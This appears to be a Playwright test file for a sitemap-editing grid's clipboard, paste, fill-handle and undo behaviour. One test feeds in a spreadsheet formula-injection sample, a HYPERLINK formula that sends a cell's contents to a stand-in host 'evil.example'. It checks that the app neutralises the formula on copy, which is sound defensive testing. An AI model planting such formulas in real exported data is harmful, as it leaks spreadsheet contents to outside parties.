import { join } from 'node:path';
import { makeTempDir } from '../support/temp-dir';
import { gridHelpers } from './support/grid';
import { numberedEntries, urlsetOf } from '../support/sitemap-xml';
import { expect, screenshot, test } from './support/fixtures';
import { DUTCH_EXCEL_PRIORITIES, pasteInto } from './support/paste';

const folder = makeTempDir({ 'pages.xml': urlsetOf(numberedEntries(6)) });
// One worker runs this file's tests in order, so the folder is removed only after the last of them.
test.use({ launchPaths: [join(folder, 'pages.xml')] });

test.beforeEach(async ({ context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
});

test('copy puts TSV and an HTML table on the clipboard; cut also clears', async ({ app }) => {
  const { cell } = gridHelpers(app, 'pages');
  await cell(1, 'loc').click();
  await cell(2, 'lastmod').click({ modifiers: ['Shift'] });
  await app.keyboard.press('Control+c');
  const copied = await app.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return {
      text: await (await item!.getType('text/plain')).text(),
      html: await (await item!.getType('text/html')).text(),
    };
  });
  expect(copied.text).toBe('https://example.com/page-1\t2024-01-15\nhttps://example.com/page-2\t2024-01-15');
  // Chromium sanitises HTML it reads back (adding tbody), so look for the cells.
  expect(copied.html).toMatch(/<table>.*<tr><td>https:\/\/example.com\/page-1<\/td><td>2024-01-15<\/td><\/tr>/);

  await cell(3, 'priority').click();
  await app.keyboard.press('Control+x');
  await expect(cell(3, 'priority')).toHaveText('');
  expect(await app.evaluate(() => navigator.clipboard.readText())).toBe('0.5');
});

test('paste from Excel with quoted cells; a larger range repeats the clipboard; past the end adds rows', async ({
  app,
}) => {
  const { grid, cell } = gridHelpers(app, 'pages');
  const paste = async (text: string): Promise<void> => {
    await app.evaluate((value) => navigator.clipboard.writeText(value), text);
    await app.keyboard.press('Control+v');
  };

  // Excel: CRLF rows, a trailing break, and a quoted cell holding a tab
  await cell(1, 'changefreq').click();
  await paste('daily\t"0.9"\r\n"monthly"\t0.1\r\n');
  await expect(cell(1, 'changefreq')).toHaveText('daily');
  await expect(cell(1, 'priority')).toHaveText('0.9');
  await expect(cell(2, 'changefreq')).toHaveText('monthly');
  await expect(cell(2, 'priority')).toHaveText('0.1');
  await cell(1, 'loc').click();
  await paste('"https://example.com/a\tb"');
  await expect(cell(1, 'loc')).toHaveText('https://example.com/a\tb');

  // one value into a 3×2 range
  await cell(3, 'changefreq').click();
  await cell(5, 'priority').click({ modifiers: ['Shift'] });
  await paste('never');
  for (const row of [3, 4, 5]) {
    await expect(cell(row, 'changefreq')).toHaveText('never');
    await expect(cell(row, 'priority')).toHaveText('never');
  }

  // three rows pasted at row 5 of 6: one row is added
  await cell(5, 'loc').click();
  await paste('https://example.com/x\nhttps://example.com/y\nhttps://example.com/z');
  await expect(grid).toHaveAttribute('aria-rowcount', '8');
  await expect(cell(7, 'loc')).toHaveText('https://example.com/z');
  await expect(app.getByRole('tab', { name: /pages/ })).toContainText('7');
  await app.keyboard.press('Control+z');
  await expect(grid).toHaveAttribute('aria-rowcount', '7');
  await expect(cell(5, 'loc')).toHaveText('https://example.com/page-5');
});

test('a cell a spreadsheet would run as a formula is copied behind a single quote, and pasted back as it was', async ({
  app,
}) => {
  const { cell } = gridHelpers(app, 'pages');
  // A spreadsheet's own formula text pastes in as it is…
  await app.evaluate(() => navigator.clipboard.writeText('=HYPERLINK("https://evil.example/?"&A1)\t@SUM(1)'));
  await cell(1, 'lastmod').click();
  await app.keyboard.press('Control+v');
  await expect(cell(1, 'lastmod')).toHaveText('=HYPERLINK("https://evil.example/?"&A1)');
  await expect(cell(1, 'changefreq')).toHaveText('@SUM(1)');
  // …is copied so that a spreadsheet shows it as text instead of running it…
  await cell(1, 'changefreq').click({ modifiers: ['Shift'] });
  await app.keyboard.press('Control+c');
  expect(await app.evaluate(() => navigator.clipboard.readText())).toBe(
    `"'=HYPERLINK(""https://evil.example/?""&A1)"\t'@SUM(1)`,
  );
  // …and pasted back into the grid unchanged.
  await cell(2, 'lastmod').click();
  await app.keyboard.press('Control+v');
  await expect(cell(2, 'lastmod')).toHaveText('=HYPERLINK("https://evil.example/?"&A1)');
  await expect(cell(2, 'changefreq')).toHaveText('@SUM(1)');
});

test("the context menu's Cut, Copy and Paste use the system clipboard, repeated over a range and undone at once", async ({
  app,
}) => {
  const { cell } = gridHelpers(app, 'pages');
  const menu = app.getByRole('menu', { name: 'Row and cell actions' });
  const pick = async (row: number, column: 'loc' | 'changefreq' | 'priority', item: string): Promise<void> => {
    await cell(row, column).click({ button: 'right' });
    await menu.getByRole('menuitem', { name: item }).click();
    await expect(menu).toHaveCount(0);
  };

  // what another program (a spreadsheet) put on the clipboard: two rows, quoted as Google Sheets does
  await app.evaluate(() => navigator.clipboard.writeText('yearly\t"0.25"\nhourly\t0.75'));
  await pick(2, 'changefreq', 'Paste');
  await expect(cell(2, 'changefreq')).toHaveText('yearly');
  await expect(cell(2, 'priority')).toHaveText('0.25');
  await expect(cell(3, 'changefreq')).toHaveText('hourly');
  await expect(cell(3, 'priority')).toHaveText('0.75');
  await expect(app.getByRole('grid', { name: 'pages' })).toBeFocused();

  // a selected range larger than the clipboard repeats it; right-clicking inside keeps the range
  await app.evaluate(() => navigator.clipboard.writeText('0.1'));
  await cell(4, 'priority').click();
  await cell(6, 'priority').click({ modifiers: ['Shift'] });
  await pick(5, 'priority', 'Paste');
  for (const row of [4, 5, 6]) await expect(cell(row, 'priority')).toHaveText('0.1');
  await app.keyboard.press('Control+z');
  for (const row of [4, 5, 6]) await expect(cell(row, 'priority')).toHaveText('0.5');

  await pick(2, 'priority', 'Copy');
  expect(await app.evaluate(() => navigator.clipboard.readText())).toBe('0.25');
  await pick(3, 'changefreq', 'Cut');
  await expect(cell(3, 'changefreq')).toHaveText('');
  expect(await app.evaluate(() => navigator.clipboard.readText())).toBe('hourly');
  await pick(1, 'changefreq', 'Paste');
  await expect(cell(1, 'changefreq')).toHaveText('hourly');
});

test('Paste from the context menu says so when the clipboard cannot be read', async ({ app, context }) => {
  const { cell } = gridHelpers(app, 'pages');
  await context.clearPermissions();
  await cell(2, 'loc').click({ button: 'right' });
  await app.getByRole('menuitem', { name: /^Paste/ }).click();
  await expect(app.getByRole('status').filter({ hasText: 'Nothing was pasted' })).toContainText(
    'the clipboard could not be read',
  );
  await expect(cell(2, 'loc')).toHaveText('https://example.com/page-2');
});

test('the fill handle repeats the selection down; ctrl+D fills down', async ({ app }) => {
  const { cell } = gridHelpers(app, 'pages');
  await cell(1, 'changefreq').click();
  await app.keyboard.type('daily');
  await app.keyboard.press('Enter');
  await cell(1, 'changefreq').click();
  const handle = app.getByTestId('fill-handle');
  const from = (await handle.boundingBox())!;
  const to = (await cell(4, 'changefreq').boundingBox())!;
  await app.mouse.move(from.x + 4, from.y + 4);
  await app.mouse.down();
  await app.mouse.move(to.x + 10, to.y + 10, { steps: 5 });
  await expect(app.locator('.fill-preview')).toBeVisible();
  await app.mouse.up();
  for (const row of [2, 3, 4]) await expect(cell(row, 'changefreq')).toHaveText('daily');
  await expect(cell(5, 'changefreq')).toHaveText('weekly');

  await cell(5, 'lastmod').click();
  await app.keyboard.type('2020-02-02');
  await app.keyboard.press('Enter');
  await cell(5, 'lastmod').click();
  await cell(6, 'lastmod').click({ modifiers: ['Shift'] });
  await app.keyboard.press('Control+d');
  await expect(cell(6, 'lastmod')).toHaveText('2020-02-02');
  await app.keyboard.press('Control+z');
  await expect(cell(6, 'lastmod')).toHaveText('2024-01-15');
});

test('the fill handle fills right and left across columns, and ctrl+R fills right, each undone at once', async ({
  app,
}) => {
  const { cell, editor, selected } = gridHelpers(app, 'pages');
  /** Drags the fill handle of the current selection to the middle of a cell, and returns before letting go. */
  const dragHandleTo = async (row: number, column: 'loc' | 'lastmod' | 'changefreq' | 'priority') => {
    const from = (await app.getByTestId('fill-handle').boundingBox())!;
    const to = (await cell(row, column).boundingBox())!;
    await app.mouse.move(from.x + 4, from.y + 4);
    await app.mouse.down();
    await app.mouse.move(to.x + to.width / 2, to.y + to.height / 2, { steps: 6 });
  };
  const type = async (row: number, column: 'lastmod' | 'priority', text: string): Promise<void> => {
    await cell(row, column).click();
    await app.keyboard.type(text);
    await editor.press('Enter');
    await cell(row, column).click();
  };

  // right: one lastmod across changefreq and priority
  await type(2, 'lastmod', '2021-03-04');
  await dragHandleTo(2, 'priority');
  await expect(app.locator('.fill-preview')).toBeVisible();
  await screenshot(app, 'grid-fill-right');
  await app.mouse.up();
  await expect(cell(2, 'changefreq')).toHaveText('2021-03-04');
  await expect(cell(2, 'priority')).toHaveText('2021-03-04');
  await expect(cell(2, 'priority')).toHaveAttribute('aria-invalid', 'true');
  await expect(cell(1, 'priority')).toHaveText('0.5');
  expect(await selected()).toEqual(['2:lastmod', '2:changefreq', '2:priority']);
  await app.keyboard.press('Control+z');
  await expect(cell(2, 'changefreq')).toHaveText('weekly');
  await expect(cell(2, 'priority')).toHaveText('0.5');

  // left: two rows of priority into changefreq and lastmod, rows kept apart
  await type(3, 'priority', '0.3');
  await cell(4, 'priority').click({ modifiers: ['Shift'] });
  await dragHandleTo(4, 'lastmod');
  await app.mouse.up();
  for (const column of ['lastmod', 'changefreq'] as const) {
    await expect(cell(3, column)).toHaveText('0.3');
    await expect(cell(4, column)).toHaveText('0.5');
  }
  await expect(cell(3, 'loc')).toHaveText('https://example.com/page-3');
  await app.keyboard.press('Control+z');
  await expect(cell(3, 'lastmod')).toHaveText('2024-01-15');
  await expect(cell(4, 'changefreq')).toHaveText('weekly');

  // ctrl+R: the left column of the selection into the rest of it
  await cell(5, 'lastmod').click();
  await cell(5, 'priority').click({ modifiers: ['Shift'] });
  await app.keyboard.press('Control+r');
  await expect(cell(5, 'changefreq')).toHaveText('2024-01-15');
  await expect(cell(5, 'priority')).toHaveText('2024-01-15');
  await app.keyboard.press('Control+z');
  await expect(cell(5, 'priority')).toHaveText('0.5');
});

test('priorities pasted from Dutch Excel in English are read where the comma can only be a decimal one; others suggest the point', async ({
  app,
}) => {
  const { cell } = gridHelpers(app, 'pages');
  await pasteInto(app, cell(1, 'priority'), DUTCH_EXCEL_PRIORITIES);
  for (const [i, value] of ['0.5', '0.8', '1.0'].entries()) await expect(cell(i + 1, 'priority')).toHaveText(value);
  for (const row of [1, 2, 3]) await expect(cell(row, 'priority')).not.toHaveAttribute('aria-invalid');
  // over 1, so no priority whichever way it is read: kept as written, its problem suggesting the point
  await pasteInto(app, cell(4, 'priority'), '2,5');
  await expect(cell(4, 'priority')).toHaveText('2,5');
  await expect(cell(4, 'priority')).toHaveAttribute('aria-invalid', 'true');
  await expect(cell(4, 'priority')).toHaveAttribute(
    'title',
    'priority "2,5" is not a number from 0.0 to 1.0. Write it with a decimal point: 2.5.',
  );
});

// The UI probe: after "New empty table", Ctrl+V pasted nothing until the grid was clicked; and a
// paste of 200,000 lines failed with "Maximum call stack size exceeded".
test('a new empty table takes a paste at once, of 200,000 lines too', async ({ app }) => {
  await app.getByRole('button', { name: 'New empty table' }).click();
  const tab = app.getByRole('tab', { name: /table-2/ });
  await expect(tab).toHaveAttribute('aria-selected', 'true');
  const lines = Array.from({ length: 200_000 }, (_, n) => `https://example.com/p/${n}\t2024-01-02`).join('\r\n');
  await app.evaluate((value) => navigator.clipboard.writeText(value), lines);
  await app.keyboard.press('Control+v');
  await expect(tab.getByLabel('200,000 URLs')).toHaveText('200,000', { timeout: 30_000 });
  await expect(app.getByText(/Something went wrong/)).toHaveCount(0);
  const { cell } = gridHelpers(app, 'table-2');
  await expect(cell(1, 'loc')).toHaveText('https://example.com/p/0');
  await expect(cell(1, 'lastmod')).toHaveText('2024-01-02');
});
